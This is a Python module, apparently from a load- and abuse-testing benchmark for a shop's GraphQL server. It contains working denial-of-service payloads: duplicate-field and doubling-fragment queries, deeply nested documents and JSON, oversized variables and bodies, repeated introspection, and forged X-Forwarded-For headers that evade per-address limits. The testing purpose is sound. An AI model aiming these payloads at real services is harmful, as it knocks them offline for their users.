"""Attacks with GraphQL documents and requests: the most that any client can make the server parse and execute."""

import random

from graphql import get_introspection_query

from bench.abuse.attack import ATTACKER, Attack, Manner, Messages, Seeds, Target, payload, unique

FIELDS = "id name dropName stock soldOut stocked version opensAt limitPerBuyer createdAt"
LIST = f"products(first: 100) {{ edges {{ cursor node {{ {FIELDS} }} }} pageInfo {{ hasNextPage endCursor }} }}"
ORDERS_BUYER = f"{ATTACKER}orders"


def typenames(target: Target) -> Messages:
    """490 fields with one name. Validation compares every two of them, 490 squared times."""
    while True:
        yield target.post(f"{{a{unique()}: __typename {'__typename ' * 490}}}")


def forged_addresses(target: Target) -> Messages:
    """The documents of `typenames`, from a client that claims another address with every request."""
    while True:
        address = ".".join(str(random.randrange(1, 255)) for _ in range(4))  # noqa: S311
        headers = f"X-Forwarded-For: {address}\r\nX-Real-IP: {address}\r\nForwarded: for={address}\r\n"
        yield target.post(f"{{a{unique()}: __typename {'__typename ' * 490}}}", headers=headers)


def nested_typenames(target: Target) -> Messages:
    """Fields with one name, in fragments and one level down."""
    fragments = " ".join(f"...on Query{{product(id:$i){{{'name ' * 30}}}}}" for _ in range(11))
    while True:
        yield target.post(f"query($i: ID!){{a{unique()}: __typename {fragments}}}", {"i": target.product_id})


def invalid(target: Target) -> Messages:
    """The same invalid document each time, of 1 kB."""
    while True:
        yield target.post(f"{{{'a ' * 497}}}")


def unknown_names(target: Target) -> Messages:
    """490 names that are not fields. The server may suggest a correction for each."""
    while True:
        yield target.post(f"{{{' '.join(f'product{random.randrange(10**6)}' for _ in range(490))}}}")  # noqa: S311


def syntax_errors(target: Target) -> Messages:
    while True:
        yield target.post("query { " + "a " * 480 + f"({unique()}")


def introspection(target: Target) -> Messages:
    while True:
        yield target.post(get_introspection_query())


def nested_introspection(target: Target) -> Messages:
    """A document of 0.8 kB that is new each time, and whose answer is large."""
    inner = "kind name ofType { kind name ofType { kind name ofType { kind name } } }"
    types = f"types {{ name description fields(includeDeprecated: true) {{ name args {{ name type {{ {inner} }} }} "
    document = f"{{ __schema {{ {types} type {{ {inner} }} }} inputFields {{ name type {{ {inner} }} }} }} }} "
    while True:
        yield target.post(f"{document} a{unique()}: __typename }}")


def lists(target: Target) -> Messages:
    """10 lists of 100 products in one operation."""
    while True:
        yield target.post("{" + " ".join(f"a{number}: {LIST}" for number in range(10)) + "}")


def one_list(target: Target) -> Messages:
    while True:
        yield target.post(f"{{{LIST}}}")


def orders(target: Target) -> Messages:
    """10 lists of 100 orders with their products in one operation."""
    page = f'orders(first: 100, userRef: "{ORDERS_BUYER}") {{ edges {{ node {{ id product {{ name stock }} }} }} }}'
    while True:
        document = "{" + " ".join(f"a{number}: {page}" for number in range(10)) + "}"
        yield target.post(document, headers=target.authorization(ORDERS_BUYER))


def held_units(target: Target) -> Messages:
    """A field that is null for strangers, in as many products as one operation may have: no reading of it is shared."""
    while True:
        yield target.post(
            "{products(first: 100) {edges {node {held}}} more: products(first: 65) {edges {node {held}}}}"
        )


def unshared(target: Target) -> Messages:
    """As many products, beside a field of the caller's own: no other request shares the reading."""
    page = "edges {node {stock}}"
    while True:
        yield target.post(
            f"{{products(first: 100) {{{page}}} more: products(first: 65) {{{page}}} viewer {{subject}}}}"
        )


def aliased_orders(target: Target) -> Messages:
    """10 orders that do not exist."""
    names = " ".join(f"$i{number}: ID!" for number in range(10))
    fields = " ".join(f"a{number}: order(id: $i{number}) {{ id status }}" for number in range(10))
    while True:
        yield target.post(f"query({names}){{{fields}}}", {f"i{number}": _uuid() for number in range(10)})


def aliased_regions(target: Target) -> Messages:
    """A query that measures the round trip to every Region, 10 times."""
    while True:
        yield target.post("{" + " ".join(f"a{number}: regions {{ name latencyMs }}" for number in range(10)) + "}")


def small_documents(target: Target) -> Messages:
    """Documents that are new each time."""
    while True:
        yield target.post(f"{{a{unique()}: __typename}}")


def long_documents(target: Target) -> Messages:
    """Documents of 7,900 characters that are new each time."""
    while True:
        yield target.post(f"{{a{unique()}: __typename}}{' ' * 7_860}")


def longest_documents(target: Target) -> Messages:
    """Documents of 19,900 characters. Most are in a string that is new each time, and every character is read."""
    while True:
        yield target.post(f'{{product(id: "{unique()}{"é" * 19_800}") {{ id }}}}')


def deep_documents(target: Target) -> Messages:
    while True:
        yield target.post("{" + "...{" * 240 + f"a{unique()}: __typename" + "}" * 240 + "}")


def fragment_chains(target: Target) -> Messages:
    """Each of 40 fragments spreads the next one twice."""
    chain = " ".join(f"fragment f{n} on Query {{ ...f{n + 1} ...f{n + 1} }}" for n in range(40))
    while True:
        yield target.post(f"{{ ...f0 }} {chain} fragment f40 on Query {{ a{unique()}: __typename }}")


def many_variables(target: Target) -> Messages:
    """Variables of 200 kB: a list that an argument does not take."""
    ids = [target.product_id] * 5_000
    while True:
        yield target.post("query($i: [ID!]!){ product(id: $i) { id } }", {"i": ids})


def long_lists(target: Target) -> Messages:
    """Variables of 240 kB that are coerced: 60,000 numbers where 100 product ids are taken."""
    while True:
        document = "subscription($i: [ID!]!){ stockChanged(productIds: $i) { stock } }"
        yield target.post(document, {"i": [1] * 60_000, "n": unique()}, "Accept: text/event-stream\r\n")


def wrong_variables(target: Target) -> Messages:
    """200 kB of an input object whose fields are all unknown."""
    wrong = {f"field{number}": number for number in range(10_000)}
    while True:
        yield target.post("mutation($i: PurchaseInput!){ purchase(input: $i) { status } }", {"i": wrong})


def deep_json(target: Target) -> Messages:
    """A body of 250 kB that is nested 125,000 times."""
    body = b'{"query":' + b"[" * 125_000 + b"]" * 125_000 + b"}"
    while True:
        yield target.request("POST /graphql", "Content-Type: application/json\r\n", body)


def deep_variables(target: Target) -> Messages:
    """40 variables, each nested 1,000 times."""
    nested = '{"a":' * 1_000 + "1" + "}" * 1_000
    rest = ",".join(nested for _ in range(40))
    body = f'{{"query":"query($i: ID!){{ product(id: $i) {{ id }} }}","variables":{{"i":[{rest}]}}}}'.encode()
    while True:
        yield target.request("POST /graphql", "Content-Type: application/json\r\n", body)


def refused_bodies(target: Target) -> Messages:
    """Bodies of 256 kB whose document is too long."""
    body = payload("{" + "a " * 127_900 + "}")
    while True:
        yield target.request("POST /graphql", "Content-Type: application/json\r\n", body)


def too_large_bodies(target: Target) -> Messages:
    """Bodies of 512 kB, which are refused because of their length."""
    while True:
        yield target.request("POST /graphql", "Content-Type: application/json\r\n", b" " * 524_288)


def _uuid() -> str:
    return f"{random.getrandbits(128):032x}"


DOCUMENT_ATTACKS = (
    Attack("typename", "490 x __typename, unique", typenames, usual=True),
    Attack("typename-100", "490 x __typename, unique", typenames, 100, usual=True),
    Attack("typename-forged", "490 x __typename, X-Forwarded-For made up", forged_addresses),
    Attack("typename-nested", "11 x 30 fields of one name in fragments, unique", nested_typenames),
    Attack("invalid", "invalid document of 1 kB, the same each time", invalid, usual=True),
    Attack("unknown-names", "490 unknown names, unique", unknown_names, usual=True),
    Attack("syntax-errors", "documents without an end, unique", syntax_errors, 10),
    Attack("introspection", "introspection, kept", introspection, usual=True),
    Attack("introspection-100", "introspection, kept", introspection, 100),
    Attack("introspection-nested", "introspection, nested, unique", nested_introspection, usual=True),
    Attack("products", "10 x products(first: 100)", lists, usual=True),
    Attack("products-100", "10 x products(first: 100)", lists, 100, usual=True),
    Attack("unshared", "165 products and viewer", unshared),
    Attack("list-100", "products(first: 100) with all fields", one_list, 100),
    Attack("held", "165 products with held", held_units),
    Attack("held-100", "165 products with held", held_units, 100),
    Attack("orders", "10 x orders(first: 100) { product }", orders, seeds=Seeds.ORDERS, usual=True),
    Attack("orders-20", "10 x orders(first: 100) { product }", orders, 20, seeds=Seeds.ORDERS, usual=True),
    Attack("order-aliases", "10 x order(id), unknown", aliased_orders),
    Attack("order-aliases-100", "10 x order(id), unknown", aliased_orders, 100),
    Attack("regions-100", "10 x regions { latencyMs }", aliased_regions, 100),
    Attack("small-1", "small documents, unique", small_documents, usual=True),
    Attack("small", "small documents, unique", small_documents, 100, usual=True),
    Attack("long", "documents of 7,900 characters, unique", long_documents, 10, usual=True),
    Attack("longest", "documents of 19,900 characters, unique", longest_documents, 10),
    Attack("deep-documents", "240 nested fragments, unique", deep_documents, 10),
    Attack("fragment-chains", "40 fragments that double, unique", fragment_chains, 10),
    Attack("variables-200k", "variables of 200 kB that are wrong", many_variables),
    Attack("long-lists", "60,000 product ids of 240 kB", long_lists),
    Attack("wrong-input", "10,000 unknown fields of an input", wrong_variables),
    Attack("deep-json", "JSON nested 125,000 times", deep_json),
    Attack("deep-variables", "variables nested 1,000 times, 40 times over", deep_variables),
    Attack("bodies", "bodies of 256 kB, refused", refused_bodies, usual=True),
    Attack("large-bodies", "bodies of 512 kB, refused by length", too_large_bodies, manner=Manner.REQUESTS),
)
